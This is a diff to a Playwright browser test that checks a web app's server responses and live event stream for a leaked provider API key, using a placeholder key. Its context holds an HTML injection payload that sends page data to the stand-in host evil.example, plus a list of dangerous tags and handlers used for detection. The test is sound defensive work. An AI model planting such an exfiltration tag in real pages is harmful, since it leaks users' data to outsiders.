@@ -7,7 +7,7 @@ from urllib.parse import urlsplit
 import pytest
 from playwright.sync_api import Browser, Page, Response, expect
 
-from browser.conftest import Watched, new_context
+from browser.conftest import Watched, new_context, read_json
 from browser.host import call, hosted
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
@@ -48,6 +48,14 @@ LEAKS = [
     "<img src='https://evil.example/?d=html'>",
 ]
 MADE = "script, img, svg, iframe, style, form, math, base, link, object, embed, [onclick], [onerror], [ontoggle]"
+STREAM = """async (run) => {
+  const stream = (await fetch(`/treadle/v1/live?runs=${run}:0`)).body.getReader();
+  const decoder = new TextDecoder();
+  let text = '';
+  while (!text.includes('"op":"turn"')) text += decoder.decode((await stream.read()).value, { stream: true });
+  await stream.cancel();
+  return text;
+}"""
 KEY = "sk-treadle-provider-key-0123456789abcdef"
 
 
@@ -129,6 +137,8 @@ def test_no_answer_of_the_server_holds_a_providers_key(browser: Browser, tmp_pat
         page = seen.open()
         seen.ask("hello")
         expect(page.get_by_role("alert")).to_be_visible()
+        run_id = read_json(server, "/treadle/v1/runs?limit=1")["runs"][0]["id"]
+        bodies.append(page.evaluate(STREAM, run_id))
         page.get_by_role("button", name="More").click()
         page.goto(f"{server.url}/console")
         page.wait_for_load_state("load")
@@ -136,5 +146,6 @@ def test_no_answer_of_the_server_holds_a_providers_key(browser: Browser, tmp_pat
             page.goto(f"{server.url}/treadle/v1/{path}")
         context.close()
     assert len(bodies) > 20
+    assert any("event: ops" in body for body in bodies)
     assert not [body[:200] for body in bodies if KEY in body]
     assert seen.strays == []
